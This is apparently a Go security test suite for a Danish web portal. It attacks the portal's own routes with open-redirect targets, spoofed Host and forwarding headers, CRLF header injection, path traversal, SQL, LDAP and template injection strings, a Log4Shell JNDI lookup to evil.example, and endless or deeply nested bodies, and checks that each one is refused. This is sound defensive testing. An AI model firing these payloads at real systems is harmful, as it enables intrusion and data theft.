package attack

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"vidne.dk/vidne/internal/access"
	"vidne.dk/vidne/internal/portal/page"
)

// ours holds that an answer leads nowhere but to ourselves.
func (s *site) ours(what string, w *httptest.ResponseRecorder) {
	s.t.Helper()
	to := w.Header().Get("Location")
	if to == "" {
		return
	}
	u, err := url.Parse(to)
	if err != nil || u.Host != "" || u.Scheme != "" || !strings.HasPrefix(to, "/") || len(to) > 1 && (to[1] == '/' || to[1] == '\\') || strings.ContainsAny(to, "\r\n\t") {
		s.t.Errorf("%s leads to %q", what, to)
	}
}

// away are addresses of somebody else's, as they have passed for one's own.
var away = []string{"https://evil.example/", "//evil.example/", `/\evil.example/`, `\\evil.example`, "///evil.example", "/%09/evil.example", "/\t/evil.example", "https:evil.example", "javascript:alert(1)",
	"http://vidne.test@evil.example/", "http://vidne.test.evil.example/", "/\r\nLocation: https://evil.example/", "%2f%2fevil.example", ".evil.example", "@evil.example", "/.//evil.example"}

// Every field and parameter that says where to go on to, with somebody else's
// address, at every route.
func TestOpenRedirects(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	walked := 0
	for _, r := range s.routes {
		method, at := fill(r.Pattern, s.things[home])
		if strings.HasSuffix(at, "/log-ud") || strings.HasSuffix(at, "/laas") || strings.Contains(at, "/slut") {
			continue
		}
		targets := away[1:2]
		if r.Act == access.Public && !strings.Contains(at, "/ekstern/") || strings.HasSuffix(at, "/bilag") {
			targets = away // where a page to go on to is named
		}
		for _, to := range targets {
			in := url.Values{}
			for _, name := range []string{"til", "side", "tilbage", "next", "url", "return", "redirect", "RelayState", "redirect_uri", "target", "mål"} {
				in.Set(name, to)
			}
			if at == "/log-ind" && method == http.MethodPost {
				in.Set("navn", "alt")
				in.Set("adgangskode", password)
			}
			target := at
			if method == http.MethodGet {
				target, in = at+"?"+in.Encode(), nil
			}
			for _, who := range []string{"", "alt"} {
				if who == "" && r.Act != access.Public {
					continue
				}
				walked++
				w := s.do(who, method, target, in, func(r *http.Request) { r.Header.Set("Referer", to) })
				s.ours(fmt.Sprintf("%s to %q", r.Pattern, to), w)
				for _, tag := range read(w.Body.String()) {
					for _, name := range []string{"href", "action", "src"} {
						if v := tag.attributes[name]; strings.HasPrefix(v, "//") || strings.Contains(v, "://evil") || strings.HasPrefix(v, `/\`) {
							t.Errorf("%s to %q has a link to %q", r.Pattern, to, v)
						}
					}
				}
				if method == http.MethodPost && who == "alt" && w.Code == http.StatusSeeOther && cookie(w) != nil {
					s.cookies["alt"] = cookie(w)
				}
			}
		}
	}
	if walked < 500 {
		t.Errorf("only %d were walked", walked)
	}
}

// The host that a request names, or that something on the way says it named, is
// in nothing that comes back.
func TestHostHeaderIsNotBelieved(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	evil := func(r *http.Request) {
		r.Host = "evil.example"
		r.Header.Set("X-Forwarded-Host", "evil.example")
		r.Header.Set("X-Forwarded-Proto", "gopher")
		r.Header.Set("X-Original-URL", "/drift")
		r.Header.Set("X-Rewrite-URL", "/drift")
		r.Header.Set("Forwarded", "host=evil.example;for=203.0.113.9")
	}
	for _, r := range s.routes {
		if method, at := fill(r.Pattern, s.things[home]); method == http.MethodGet {
			for _, who := range []string{"", "alt"} {
				if w := s.knock(who, method, at, nil, func(r *http.Request) { r.Host = "evil.example" }); w.Code != http.StatusMisdirectedRequest {
					t.Errorf("%s at another host: %d", r.Pattern, w.Code)
				}
				w := s.do(who, method, at, nil, evil)
				if strings.Contains(w.Body.String(), "evil.example") || strings.Contains(fmt.Sprint(w.Header()), "evil.example") || strings.Contains(w.Body.String(), "gopher") {
					t.Errorf("%s believes the host", r.Pattern)
				}
				s.ours(r.Pattern, w)
			}
		}
	}
}

// Who comes from where is what the connection says, not what the request says
// of itself: else one would guess from a new address each time.
func TestForwardedAddressIsNotBelieved(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.clk.Advance(time.Second) // after they were last let in
	for i := range 12 {
		s.knock("", "POST", "/log-ind", url.Values{"navn": {"koordinator"}, "adgangskode": {"gæt"}}, func(r *http.Request) {
			for _, h := range []string{"X-Forwarded-For", "X-Real-IP", "True-Client-IP", "CF-Connecting-IP", "X-Client-IP"} {
				r.Header.Set(h, fmt.Sprintf("198.51.100.%d", i))
			}
			r.Header.Set("Forwarded", fmt.Sprintf("for=198.51.100.%d", i))
		})
	}
	waits := 0
	for _, e := range s.found("login.refused") {
		if strings.Contains(e, `"login.wait"`) {
			waits++
		}
	}
	if waits < 5 {
		t.Errorf("of twelve guesses from one address %d were made to wait", waits)
	}
	for _, e := range s.found("login.refused") {
		if strings.Contains(e, "198.51.100") {
			t.Errorf("the log believes where it came from: %s", e)
		}
	}
}

// Line breaks in whatever is sent back in a header begin no new one.
func TestResponseSplitting(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	for _, evil := range []string{"x\r\nX-Injected: ja\nSet-Cookie: vidne=x", "x%0d%0aX-Injected: ja\u560a\u560dX-Injected: ja"} {
		q := url.Values{}
		for _, name := range []string{"til", "side", "q", "format", "besked", "fra", "del", "sag", "person", "kamera"} {
			q.Set(name, evil)
		}
		for _, r := range s.routes {
			bad := owned{}
			for k := range s.things[home] {
				bad[k] = evil
			}
			bad["{lang}"], bad["{fil}"], bad["{regel}"] = evil, evil, evil
			for k, ids := range []owned{s.things[home], bad} {
				if k > 0 && !strings.Contains(r.Pattern, "{") {
					continue
				}
				method, at := fill(r.Pattern, ids)
				if method != http.MethodGet {
					continue
				}
				w := s.do("alt", method, at+"?"+q.Encode(), nil)
				for name, values := range w.Header() {
					if strings.EqualFold(name, "X-Injected") || strings.ContainsAny(strings.Join(values, ""), "\r\n") {
						t.Errorf("%s: the header %s is %q", r.Pattern, name, values)
					}
				}
				for _, c := range w.Result().Cookies() {
					if c.Value == "x" {
						t.Errorf("%s sets a cookie", r.Pattern)
					}
				}
			}
		}
	}
}

// Paths that climb, in every place of every address and beside them: nothing is
// found, nothing breaks.
func TestPathTricksInAddresses(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	fatal(t, os.WriteFile(filepath.Join(s.dir, "hemmelig.txt"), []byte("root:x:0:0 "+secret), 0o600))
	tricks := []string{"..", "../..", "../../../../etc/passwd", `..\..\hemmelig.txt`, "../hemmelig.txt", "%2e%2e%2fhemmelig.txt", "..%252f..%252fetc%252fpasswd", "a\x00b", "/etc/passwd", "..;/", "%c0%ae%c0%ae/", "C:\\windows\\win.ini", "CON",
		"\u202Egpj.exe", strings.Repeat("a", 5000), "file:///etc/passwd", "' OR 1=1 --", "1; DROP TABLE cases", "*)(uid=*", "${jndi:ldap://evil.example/x}", "{{7*7}}", "\xff\xfe"}
	was, tried := s.all(), map[string]bool{}
	for _, r := range s.routes {
		all := names(r.Pattern)
		for i := range all {
			few := tried[all[i]]
			tried[all[i]] = true
			for n, trick := range tricks {
				if n >= 3 && few {
					break // what finds a thing of a sort is the same everywhere
				}
				ids := owned{}
				for k, v := range s.things[home] {
					ids[k] = v
				}
				ids[all[i]] = trick
				method, at := fill(r.Pattern, ids)
				w := s.do("alt", method, at, nil)
				if strings.HasSuffix(r.Pattern, "/billede/{billede}") && all[i] == "{tegning}" {
					continue // a case's pictures may lie behind any of its drawings
				}
				if w.Code < 400 && w.Code != http.StatusTemporaryRedirect || w.Code >= 500 || strings.Contains(w.Body.String(), "root:x:0") {
					t.Errorf("%s with %q: %d", r.Pattern, trick, w.Code)
				}
			}
		}
	}
	for _, at := range []string{"/static/x/../../hemmelig.txt", "/static/x/%2e%2e/%2e%2e/go.mod", "/static/x/..%2f..%2fgo.mod", "/static//etc/passwd", "/static/x/", "/static/", "/static/x/pages", "/static/x/.gitkeep", "/.git/config", "/.env", "/debug/pprof/", "/metrics", "/debug/vars", "/storybook", "/server-status", "/api", "/swagger.json", "//evil.example/..", "/%2e%2e/%2e%2e/etc/passwd"} {
		w := s.do("alt", "GET", at, nil)
		if w.Code < 300 || w.Code >= 500 || strings.Contains(w.Body.String(), secret) || strings.Contains(w.Body.String(), "<pre>") {
			t.Errorf("%s: %d %.80s", at, w.Code, w.Body)
		}
	}
	s.unchanged(was, "paths that climb")
}

// endless is a body that never ends, and says how much of it was read.
type endless struct{ n int64 }

func (e *endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'a'
	}
	e.n += int64(len(p))
	if e.n > 1<<30 {
		return 0, io.ErrUnexpectedEOF
	}
	return len(p), nil
}

func (e *endless) Close() error { return nil }

// A body without end, to every route, of every kind that is read: no more of it
// is read than the route takes, and it is refused.
func TestBodiesWithoutEnd(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	for _, r := range s.routes {
		method, at := fill(r.Pattern, s.things[home])
		if method == http.MethodGet || strings.HasSuffix(at, "/log-ud") || strings.HasSuffix(at, "/laas") {
			continue
		}
		limit := r.MaxBody
		if limit == 0 {
			limit = page.FormSize
		}
		for k, kind := range []string{"application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json", "text/plain"} {
			for _, who := range []string{"alt", ""} {
				if who == "" && k > 1 {
					break
				}
				e := &endless{}
				w := s.do(who, method, at, nil, func(r *http.Request) { r.Body, r.ContentLength = e, -1; r.Header.Set("Content-Type", kind) })
				if e.n > limit+64<<10 {
					t.Errorf("%s of %s: %d bytes were read, it takes %d", r.Pattern, kind, e.n, limit)
				}
				if crashed(w.Code) {
					t.Errorf("%s of %s: %d", r.Pattern, kind, w.Code)
				}
			}
		}
	}
	for _, form := range []string{"application/x-www-form-urlencoded"} { // half a form is none
		was := s.all()
		for _, r := range s.routes {
			if method, at := fill(r.Pattern, s.things[home]); method == http.MethodPost && !strings.HasSuffix(at, "/log-ud") && !strings.HasSuffix(at, "/laas") {
				s.do("it-og-alt", method, at, nil, func(r *http.Request) {
					with(r, []byte("svar=ja&krav=nej&grund=En+lang+nok+begrundelse&x=%zz"), form)
				})
			}
		}
		s.unchanged(was, "half a form")
	}
}

// JSON a million brackets deep, and forms with a million fields, are refused at
// once.
func TestDeepJSONAndWideForms(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	o := s.things[home]
	deep := []byte(strings.Repeat(`[`, 1<<20))
	object := []byte(strings.Repeat(`{"a":`, 1<<18))
	for _, r := range s.routes {
		method, at := fill(r.Pattern, o)
		if method == http.MethodGet || strings.HasSuffix(at, "/log-ud") || strings.HasSuffix(at, "/laas") || strings.HasSuffix(at, "/slut") {
			continue
		}
		for k, body := range [][]byte{deep, object} {
			if k > 0 && r.MaxBody == 0 {
				continue // a form: what is in it is tried once
			}
			for _, in := range []url.Values{{"tabel": {string(body[:1<<17])}, "svar": {string(body[:1<<14])}, "bevis_svar": {string(body[:1<<14])}, "kladde": {string(body[:1<<14])}}, nil} {
				began := time.Now()
				w := s.do("alt", method, at, in, func(r *http.Request) {
					if in == nil {
						with(r, body, "application/json")
					}
				})
				if took := time.Since(began); crashed(w.Code) || took > 5*time.Second {
					t.Errorf("%s: %d after %v", r.Pattern, w.Code, took)
				}
			}
		}
	}
	wide := strings.Repeat("a=&", page.FormSize/3)
	began := time.Now()
	if w := s.do("alt", "POST", "/steder/nyt", nil, func(r *http.Request) { with(r, []byte(wide), "application/x-www-form-urlencoded") }); w.Code >= 500 || time.Since(began) > 5*time.Second {
		t.Errorf("a form of %d fields: %d after %v", page.FormSize/3, w.Code, time.Since(began))
	}
}

// found are the ledger's entries of a kind as text.
func (s *site) found(kind string) (all []string) {
	s.t.Helper()
	entries, err := s.ledger.Find(s.t.Context(), filter(kind))
	fatal(s.t, err)
	for _, e := range entries {
		all = append(all, string(e.Body))
	}
	return all
}
